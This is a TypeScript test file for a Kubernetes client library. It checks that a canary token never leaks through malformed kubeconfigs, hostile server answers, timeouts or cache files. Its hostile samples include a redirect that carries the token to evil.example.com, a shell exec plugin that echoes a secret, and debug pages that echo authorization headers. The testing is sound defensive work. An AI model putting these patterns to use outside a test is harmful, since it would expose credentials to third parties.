import assert from 'node:assert/strict'
import { globSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { type ApiRequest, type Cluster, connect } from 'anykind'
import {
  deleteKubeconfigEntry,
  loadConnection,
  mergeKubeconfigFile,
  setKubeconfigContext,
  setKubeconfigEntry,
} from '../../lib/config/index.ts'
import { assertNoCanary, canary } from '../support/canary.ts'
import {
  type Answer,
  cutBody,
  failure,
  json,
  LoopbackServer,
  reset,
  silence,
} from '../support/loopback-server.ts'
import { anykindArguments, runProgram } from '../support/run-program.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

/*
 * One token goes through all that can fail, and is then looked for everywhere. A new way to fail gets a line
 * in one of these tables.
 */

const base64 = Buffer.from(canary).toString('base64')

/** A kubeconfig with these fields of its cluster and its user. */
const kubeconfig = (cluster: object, user: object): string =>
  JSON.stringify({
    'current-context': 'a',
    contexts: [{ name: 'a', context: { cluster: 'a', user: 'a' } }],
    clusters: [{ name: 'a', cluster: { server: 'https://127.0.0.1:1', ...cluster } }],
    users: [{ name: 'a', user }],
  })

/** Kubeconfigs that hold the secret and cannot be used. */
const unusable: Record<string, string> = {
  'no YAML at its line': `users: [{name: a, user: {token: ${canary}`,
  'a tab at its line': `users:\n- name: a\n  user:\n\t  token: ${canary}\n`,
  'a key twice': `users:\n- name: a\n  user: {token: ${canary}, token: ${canary}}`,
  'a list where it should be': kubeconfig({}, { token: [canary] }),
  'a number where a password should be': kubeconfig({}, { username: canary, password: 7 }),
  'a token with a line break': kubeconfig({}, { token: `${canary}\nx: y` }),
  'a token beside a password': kubeconfig({}, { token: canary, username: 'x', password: canary }),
  'a password in the address': kubeconfig({ server: `https://u:${canary}@127.0.0.1` }, {}),
  'an address that is none': kubeconfig({ server: `ftp://u:${canary}@127.0.0.1` }, {}),
  'a password in the address of the proxy': kubeconfig(
    { 'proxy-url': `gopher://u:${canary}@127.0.0.1` },
    {},
  ),
  'a key without a certificate': kubeconfig({}, { 'client-key-data': base64 }),
  'a key that is none': kubeconfig(
    {},
    { 'client-key-data': base64, 'client-certificate-data': base64 },
  ),
  'a key that is no base64': kubeconfig({}, { 'client-key-data': `{${canary}}` }),
  'an authority that is none': kubeconfig({ 'certificate-authority-data': base64 }, {}),
  'a provider of old': kubeconfig(
    {},
    { 'auth-provider': { name: 'gcp', config: { 'access-token': canary } } },
  ),
  // What it says on stderr is for the user, and none of ours.
  'a plugin that gives it and fails': kubeconfig(
    {},
    {
      exec: {
        apiVersion: 'client.authentication.k8s.io/v1',
        command: 'sh',
        args: ['-c', 'echo "$SECRET"; exit 1'],
        env: [{ name: 'SECRET', value: canary }],
        interactiveMode: 'Never',
      },
    },
  ),
}

for (const [what, text] of Object.entries(unusable)) {
  test(`a kubeconfig with ${what} shows nothing of it, by library and command`, async t => {
    const folder = temporaryFolder(t, { config: text, other: kubeconfig({}, {}) })
    const file = join(folder, 'config')
    const uses: Record<string, () => Promise<unknown>> = {
      load: () => loadConnection({ kubeconfig: file }),
      call: () => useAndClose({ kubeconfig: file }),
      set: () => setKubeconfigEntry(file, 'context', { name: 'b', fields: { user: 7 } }),
      use: () => setKubeconfigContext(file, 'none'),
      delete: () => deleteKubeconfigEntry(file, 'user', 'none'),
      merge: () => mergeKubeconfigFile(join(folder, 'other'), join(folder, 'none')),
    }
    let failed = 0
    for (const [how, use] of Object.entries(uses)) {
      const outcome = await use().catch(error => {
        failed++
        return error
      })
      assertNoCanary(outcome, how)
    }
    assert.ok(failed >= 5)
    assertNoCanary(await anykind(['get', 'configmaps', '--kubeconfig', file]), 'the command')
  })
}

type Options = Parameters<typeof connect>[0]

async function useAndClose(options: Options): Promise<void> {
  await using cluster = await connect({ ...options, cacheDirectory: false })
  await (await cluster.resource('configmaps')).in('default').get('a')
}

/** Runs the command to its end, as a terminal would see it. */
const anykind = (args: readonly string[], env: NodeJS.ProcessEnv = {}) =>
  runProgram(process.execPath, [...anykindArguments, ...args], {
    env: { KUBECONFIG: '', HOME: '/nonexistent', XDG_CACHE_HOME: '/nonexistent', ...env },
  })

/** Answers that send back what they were sent, as a proxy's page for debugging does, and connections that fail. */
const hostile: Record<string, Answer> = {
  'a reset': reset,
  'a closed connection': response => response.socket?.end(),
  'a head that is no HTTP': (response, { headers }) =>
    response.socket?.end(`SSH-2.0 ${headers.authorization}\r\n`),
  'a head that is cut': response => response.socket?.end(`HTTP/1.1 200 OK\r\nx: ${canary}`),
  'a body that is cut': cutBody(`{"token":"${canary}`, 'end'),
  'no JSON': (response, { headers }) => response.end(`{"seen": ${headers.authorization}`),
  'another encoding': response =>
    response.setHeader('content-encoding', 'br').setHeader('x-token', canary).end(canary),
  'a page that shows the headers': (response, { headers }) =>
    response
      .writeHead(502, { 'content-type': 'text/html', 'x-seen': String(headers.authorization) })
      .end(`<pre>${JSON.stringify(headers)}</pre>`),
  'a status that shows them where none reads': (response, request, socket) =>
    json({ kind: 'Status', message: 7, debug: request.headers }, 403)(response, request, socket),
  'a redirect that carries it on': response =>
    response.writeHead(302, { location: `https://evil.example.com/?t=${canary}` }).end(),
  'a refusal': failure(401, 'Unauthorized'),
}

async function start(t: TestContext, answer: Answer): Promise<LoopbackServer> {
  const server = await LoopbackServer.start(answer)
  t.after(() => server[Symbol.asyncDispose]())
  return server
}

for (const [what, answer] of Object.entries(hostile)) {
  test(`${what} in answer to a token shows nothing of it, by library and command`, async t => {
    const { url } = await start(t, answer)
    const options: Options = { server: url, token: canary, timeoutMs: 10_000 }
    assertNoCanary(await failureOf(useAndClose(options)), 'the error')
    const args = ['get', 'configmaps', '--server', url, '--token', canary]
    const more = ['-o=json', '-v=9', '--unknown', '--request-timeout=x']
    const runs = await Promise.all(more.map(flag => anykind([...args, flag])))
    for (const [index, ended] of runs.entries()) {
      assert.notEqual(ended.code, 0)
      assertNoCanary(ended, `the command with ${more[index]}`)
    }
  })
}

const failureOf = (promise: Promise<unknown>): Promise<unknown> =>
  promise.then(
    () => assert.fail('it did not fail'),
    error => error,
  )

test('a call that times out, is aborted, or finds nobody shows nothing of its token, query or body', async t => {
  const server = await start(t, silence)
  await using cluster = await connect({ server: server.url, token: canary, cacheDirectory: false })
  const request: ApiRequest = {
    method: 'POST',
    path: '/x',
    query: [['continue', canary]],
    body: JSON.stringify({ kind: 'Secret', stringData: { password: canary } }),
  }
  const call = (timeoutMs: number, signal?: AbortSignal) =>
    failureOf(cluster.client.raw({ ...request, timeoutMs }, signal))
  assertNoCanary(await call(50), 'the timeout')
  assertNoCanary(await call(10_000, AbortSignal.timeout(50)), 'the abort')
  await server[Symbol.asyncDispose]()
  assertNoCanary(await call(10_000), 'the refused connection')
})

const discoveryOf = (...versions: unknown[]) => ({
  kind: 'APIGroupDiscoveryList',
  items: versions.map(version => ({ metadata: {}, versions: [version] })),
})

/** Enough of a server for discovery. */
const documents: Record<string, unknown> = {
  '/api': discoveryOf({
    version: 'v1',
    resources: [
      {
        resource: 'configmaps',
        responseKind: { group: '', version: 'v1', kind: 'ConfigMap' },
        scope: 'Namespaced',
        verbs: ['get', 'list'],
      },
    ],
  }),
  '/apis': discoveryOf(),
}
const served: Answer = (response, request, socket) => {
  const found = documents[request.url]
  const answer = found === undefined ? failure(404, 'NotFound') : json(found)
  answer(response, request, socket)
}

test('CVE-2020-8565, CVE-2025-7445: no object of ours shows it, before, during or after its use, and no cache file holds it', async t => {
  const { url } = await start(t, served)
  const cacheDirectory = join(temporaryFolder(t), 'cache')
  const users = {
    token: { token: canary },
    'token file': { tokenFile: 'token' },
    password: { username: 'u', password: canary },
  }
  for (const [what, user] of Object.entries(users)) {
    const config = kubeconfig({ server: url }, user)
    const file = join(temporaryFolder(t, { config, token: canary }), 'config')
    const cluster = await connect({ kubeconfig: file, cacheDirectory })
    for (const [part, value] of Object.entries(partsOf(cluster))) assertNoCanary(value, part)
    const configMaps = await cluster.resource('configmaps')
    await configMaps
      .in('default')
      .get('a')
      .catch(() => undefined)
    const parts = { ...partsOf(cluster), configMaps, schemas: await cluster.schemas() }
    for (const [part, value] of Object.entries(parts)) assertNoCanary(value, `${what}: ${part}`)
    await cluster[Symbol.asyncDispose]()
    assertNoCanary(cluster, `${what}: the cluster after its end`)
    assertNoCanary(await loadConnection({ kubeconfig: file }), `${what}: the connection`)
  }
  const files = globSync(join(cacheDirectory, '**/*')).filter(path => statSync(path).isFile())
  assert.ok(files.length > 0)
  for (const path of files)
    assertNoCanary(`${path}\n${readFileSync(path, 'latin1')}`, 'a cache file')
})

const partsOf = (cluster: Cluster) => ({
  cluster,
  client: cluster.client,
  discovery: cluster.discovery,
})

test('the canary is found where it is', () => {
  const seen: Record<string, unknown> = {
    text: `Bearer ${canary}`,
    base64: Buffer.from(`x${canary}y`).toString('base64'),
    hex: Buffer.from(canary).toString('hex'),
    nested: { a: [new Map([['b', canary]])] },
    cause: new Error('x', { cause: { token: canary } }),
    hidden: Object.defineProperty({}, 'token', { value: canary, enumerable: false }),
    getter: {
      get token() {
        return canary
      },
    },
  }
  for (const [what, value] of Object.entries(seen)) {
    assert.throws(() => assertNoCanary(value, what), assert.AssertionError, what)
  }
})
